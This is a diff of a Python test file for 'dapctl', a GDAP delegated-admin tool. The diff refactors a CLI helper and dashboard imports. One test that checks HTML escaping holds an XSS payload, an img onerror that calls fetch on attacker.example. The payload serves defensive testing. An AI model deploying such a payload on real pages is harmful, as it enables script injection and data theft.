@@ -4,24 +4,15 @@ planned), GDAP status of every customer with the relationships read once, and th
 from __future__ import annotations
 
 import json
-import os
 import re
-import subprocess
-import sys
 
 import pytest
 
 from emulator.fleet_world import generate_fleet
 from tests.helpers import REPO, headless_chromium
+from tests.support.cli import dapctl
 
 RELS = "/graph/v1.0/tenantRelationships/delegatedAdminRelationships"
-
-
-def dapctl(*args: str, endpoint: str = "offline") -> subprocess.CompletedProcess:
-    env = {**os.environ, "PYTHONPATH": str(REPO), "CSP_DELEGATION_ENDPOINT": endpoint}
-    return subprocess.run(
-        [sys.executable, "-m", "dapctl", *args], cwd=REPO, env=env, capture_output=True, text=True, timeout=600
-    )
 
 
 @pytest.fixture
@@ -72,7 +63,7 @@ def test_status_reads_the_relationships_once_and_flags_what_needs_attention(flee
 
 
 def test_the_dashboard_escapes_every_name_and_loads_nothing(tmp_path):
-    from dapctl.dashboard import render_dashboard
+    from dapctl.render.dashboard import render_dashboard
 
     evil = '<img src=x onerror="fetch(`https://attacker.example`)">'
     row = {
@@ -96,7 +87,7 @@ def test_the_dashboard_escapes_every_name_and_loads_nothing(tmp_path):
 
 def test_the_dashboard_of_a_thousand_customers_renders_in_a_real_browser(tmp_path):
     """Headless Chromium loads the page offline, runs its script (the row counter) and shows every row."""
-    from dapctl.dashboard import render_dashboard
+    from dapctl.render.dashboard import render_dashboard
 
     rows = [
         {
